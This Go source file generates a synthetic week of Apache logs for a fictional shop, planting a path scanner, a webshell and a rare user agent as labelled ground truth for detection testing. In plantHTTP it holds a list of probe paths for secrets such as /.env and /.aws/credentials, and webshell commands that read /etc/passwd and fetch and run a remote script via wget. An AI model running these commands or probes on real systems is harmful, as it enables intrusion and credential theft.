package gen

import (
	"bufio"
	"cmp"
	"encoding/base64"
	"io"
	"math"
	"math/rand/v2"
	"slices"
	"strconv"
	"time"
)

// The web side: a week of visitors to an organisation's three sites, as
// Apache writes them in its vhost_combined format, with a scanner, a
// webshell and a rare user agent hidden among them.

// HTTPTruth is what was planted in an HTTP log.
type HTTPTruth struct {
	Events int64 // requests written: Options.Lines, or the planted ones when they are more
	// ScannerClient probed ScannerPaths distinct paths in a few minutes,
	// nearly all answered 404, with ScannerAgent.
	ScannerClient, ScannerAgent string
	ScannerPaths                int
	// WebshellClient posted commands to WebshellPath (on WebshellHost),
	// a file uploaded where only images are, a dozen times over a day.
	WebshellClient, WebshellHost, WebshellPath string
	// RareAgent is a user agent seen RareAgentRequests times, from one
	// client, in a log where every other agent is common.
	RareAgent         string
	RareAgentRequests int
}

// The sites, their pages and their visitors' agents. Weights are
// cumulative per mille.
var (
	httpSites  = []string{"www.example-shop.com", "api.example-shop.com", "static.example-shop.com"}
	httpAgents = []struct {
		perMille int
		ua       string
	}{
		{300, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"},
		{450, "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1"},
		{580, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15"},
		{700, "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.144 Mobile Safari/537.36"},
		{800, "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0"},
		{870, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.91"},
		{920, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36"},
		{960, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"},
		{985, "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"},
		{1000, "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"},
	}
	httpCategories = []string{"shoes", "bags", "watches", "jackets", "sale", "new-in", "kids", "sports"}
	httpReferers   = []string{"https://www.google.com/", "https://www.bing.com/", "https://duckduckgo.com/", "https://t.co/xyz", "https://www.facebook.com/"}
	// What a scanner asks for: admin panels, leaked files, old exploits.
	scanPaths = []string{"/wp-login.php", "/wp-admin/", "/.env", "/.git/config", "/phpmyadmin/", "/admin.php",
		"/xmlrpc.php", "/server-status", "/config.php.bak", "/backup.zip", "/.aws/credentials", "/cgi-bin/test.cgi",
		"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/solr/admin/info/system", "/actuator/env",
		"/console/", "/manager/html", "/jenkins/login", "/.DS_Store", "/owa/auth/logon.aspx", "/HNAP1/",
		"/boaform/admin/formLogin", "/api/jsonws/invoke", "/debug/default/view", "/telescope/requests"}
)

const (
	httpClients    = 3000
	httpScanner    = "203.0.113.66"
	httpScanAgent  = "Mozilla/5.0 zgrab/0.x"
	httpShell      = "198.51.100.23"
	httpShellPath  = "/uploads/2024/03/thumb.php"
	httpRareAgent  = "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 1.1.4322)"
	httpRareClient = "192.0.2.201"
)

// request is one line of the log.
type request struct {
	t                            int64 // unix µs
	client, host, method, target string
	status                       int
	bytes                        int64
	referer, agent               string
}

// WriteHTTP writes o.Lines requests in Apache's vhost_combined format
// (o.Format is not used).
func WriteHTTP(w io.Writer, o Options) (HTTPTruth, error) {
	if err := o.defaults(); err != nil {
		return HTTPTruth{}, err
	}
	rng := rand.New(rand.NewPCG(uint64(o.Seed), 0x68747470))
	planted, truth := plantHTTP(rng, o)
	truth.Events = max(o.Lines, int64(len(planted)))
	bw := bufio.NewWriterSize(w, 1<<20)
	var line []byte
	var c clock
	pi := 0
	emit := func(r *request) {
		for pi < len(planted) && planted[pi].t <= r.t {
			line = appendRequest(line[:0], &c, &planted[pi])
			bw.Write(line)
			pi++
		}
		line = appendRequest(line[:0], &c, r)
		bw.Write(line)
	}
	normal := max(o.Lines-int64(len(planted)), 0)
	spread(o, normal, func(t int64) {
		var r request
		normalRequest(rng, &r, t)
		emit(&r)
	})
	for ; pi < len(planted); pi++ {
		bw.Write(appendRequest(line[:0], &c, &planted[pi]))
	}
	return truth, bw.Flush()
}

// spread calls at n times over the span, following the office rhythm of
// activity, in time order.
func spread(o Options, n int64, at func(t int64)) {
	minutes := int64(o.Days) * 1440
	weights := make([]float64, minutes)
	total := 0.0
	for m := range weights {
		weights[m] = activity(o.Start.Add(time.Duration(m) * time.Minute))
		total += weights[m]
	}
	start := o.Start.UnixMicro()
	written, acc := int64(0), 0.0
	for m := int64(0); m < minutes; m++ {
		acc += weights[m]
		k := int64(math.Round(float64(n)*acc/total)) - written
		for i := int64(0); i < k; i++ {
			at(start + m*60_000_000 + (i*60_000_000)/k)
		}
		written += k
	}
}

// normalRequest is a visitor browsing: pages, their assets, the API the
// pages call, now and then a search or a missing page.
func normalRequest(rng *rand.Rand, r *request, t int64) {
	c := uint64(math.Min(rng.ExpFloat64()*400, httpClients-1))
	*r = request{t: t, client: visitor(c), method: "GET", status: 200, referer: "-"}
	r.agent = httpAgents[len(httpAgents)-1].ua
	pm := int(c*7919%1000) + rng.IntN(3) // a visitor keeps an agent
	for _, a := range httpAgents {
		if pm < a.perMille {
			r.agent = a.ua
			break
		}
	}
	site := "https://" + httpSites[0]
	switch p := rng.IntN(100); {
	case p < 40:
		r.host = httpSites[2]
		r.target = "/assets/" + []string{"app.css", "app.js", "logo.svg", "fonts/inter.woff2"}[rng.IntN(4)]
		r.referer = site + "/"
		r.bytes = int64(2000 + rng.IntN(90_000))
		if rng.IntN(4) == 0 {
			r.status, r.bytes = 304, 0
		}
	case p < 65:
		r.host = httpSites[0]
		r.target = "/category/" + httpCategories[rng.IntN(len(httpCategories))]
		if rng.IntN(3) == 0 {
			r.target = "/"
		}
		r.referer = httpReferers[rng.IntN(len(httpReferers))]
		r.bytes = int64(20_000 + rng.IntN(60_000))
	case p < 85:
		r.host = httpSites[0]
		r.target = "/products/" + strconv.Itoa(1000+rng.IntN(4000))
		r.referer = site + "/category/" + httpCategories[rng.IntN(len(httpCategories))]
		r.bytes = int64(15_000 + rng.IntN(40_000))
	case p < 97:
		r.host = httpSites[1]
		r.target = "/v1/items?page=" + strconv.Itoa(1+rng.IntN(20)) + "&size=24"
		r.referer = site + "/"
		r.bytes = int64(1000 + rng.IntN(9000))
	case p < 99:
		r.host = httpSites[0]
		r.target = "/search?q=" + httpCategories[rng.IntN(len(httpCategories))] + "+" + strconv.Itoa(rng.IntN(50))
		r.referer = site + "/"
		r.bytes = int64(10_000 + rng.IntN(30_000))
	default:
		r.host = httpSites[0]
		r.target = "/products/" + strconv.Itoa(9000+rng.IntN(1000))
		r.status, r.bytes = 404, 320
	}
}

// visitor is the address of visitor c.
func visitor(c uint64) string {
	h := c*2654435761 + 12345
	return strconv.Itoa(int(h>>8%200)+20) + "." + strconv.Itoa(int(h>>16%250)) + "." +
		strconv.Itoa(int(h>>24%250)) + "." + strconv.Itoa(int(c%250)+2)
}

// plantHTTP makes the planted requests, sorted by time.
func plantHTTP(rng *rand.Rand, o Options) ([]request, HTTPTruth) {
	start := o.Start.UnixMicro()
	day := int64(86_400_000_000)
	tr := HTTPTruth{ScannerClient: httpScanner, ScannerAgent: httpScanAgent, WebshellClient: httpShell,
		WebshellHost: httpSites[0], WebshellPath: httpShellPath, RareAgent: httpRareAgent}
	var out []request
	// The scanner: every path on its list under a few prefixes, in 10
	// minutes on the second night.
	t := start + day + 2*3_600_000_000
	for _, prefix := range []string{"", "/blog", "/shop", "/old", "/test", "/v2", "/wordpress", "/backup"} {
		for _, p := range scanPaths {
			out = append(out, request{t: t, client: httpScanner, host: httpSites[0], method: "GET", target: prefix + p,
				status: 404, bytes: 320, referer: "-", agent: httpScanAgent})
			t += int64(rng.IntN(3_000_000))
		}
	}
	tr.ScannerPaths = len(out)
	// The webshell: uploaded on day 4, then a dozen commands.
	t = start + 3*day + 14*3_600_000_000
	out = append(out, request{t: t, client: httpShell, host: httpSites[0], method: "POST", target: "/account/avatar/upload",
		status: 200, bytes: 120, referer: "https://" + httpSites[0] + "/account", agent: httpAgents[0].ua})
	for _, cmd := range []string{"id", "uname -a", "cat /etc/passwd", "ls -la /var/www", "wget http://203.0.113.9/x.sh",
		"chmod +x x.sh", "./x.sh", "netstat -tnlp", "ps aux", "crontab -l", "whoami", "rm x.sh"} {
		t += int64(20+rng.IntN(90)) * 60_000_000
		out = append(out, request{t: t, client: httpShell, host: httpSites[0], method: "POST",
			target: httpShellPath + "?cmd=" + b64(cmd), status: 200, bytes: int64(40 + rng.IntN(4000)),
			referer: "-", agent: "python-requests/2.31.0"})
	}
	// The rare agent: three visits from one address.
	for i := range 3 {
		t = start + int64(i+2)*day + 10*3_600_000_000
		out = append(out, request{t: t, client: httpRareClient, host: httpSites[0], method: "GET", target: "/",
			status: 200, bytes: 31_000, referer: "-", agent: httpRareAgent})
	}
	tr.RareAgentRequests = 3
	sortRequests(out)
	return out, tr
}

// b64 is the URL-safe base64 of a command, as webshells take it.
func b64(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }

func sortRequests(rs []request) {
	slices.SortStableFunc(rs, func(a, b request) int { return cmp.Compare(a.t, b.t) })
}

// appendRequest writes one vhost_combined line:
// host:port client - - [10/Oct/2000:13:55:36 +0000] "GET / HTTP/1.1" 200 2326 "referer" "agent"
func appendRequest(b []byte, c *clock, r *request) []byte {
	b = append(b, r.host...)
	b = append(b, ":443 "...)
	b = append(b, r.client...)
	b = append(b, " - - ["...)
	b = c.appendApache(b, r.t)
	b = append(b, "] \""...)
	b = append(b, r.method...)
	b = append(b, ' ')
	b = append(b, r.target...)
	b = append(b, " HTTP/1.1\" "...)
	b = appendUint(b, uint64(r.status))
	b = append(b, ' ')
	b = appendUint(b, uint64(r.bytes))
	b = append(b, " \""...)
	b = append(b, r.referer...)
	b = append(b, "\" \""...)
	b = append(b, r.agent...)
	return append(b, "\"\n"...)
}

// appendApache writes "10/Oct/2000:13:55:36 +0000".
func (c *clock) appendApache(b []byte, us int64) []byte {
	ofDay := c.refresh(us)
	return append(appendClock(append(b, c.apacheDate...), ofDay), " +0000"...)
}
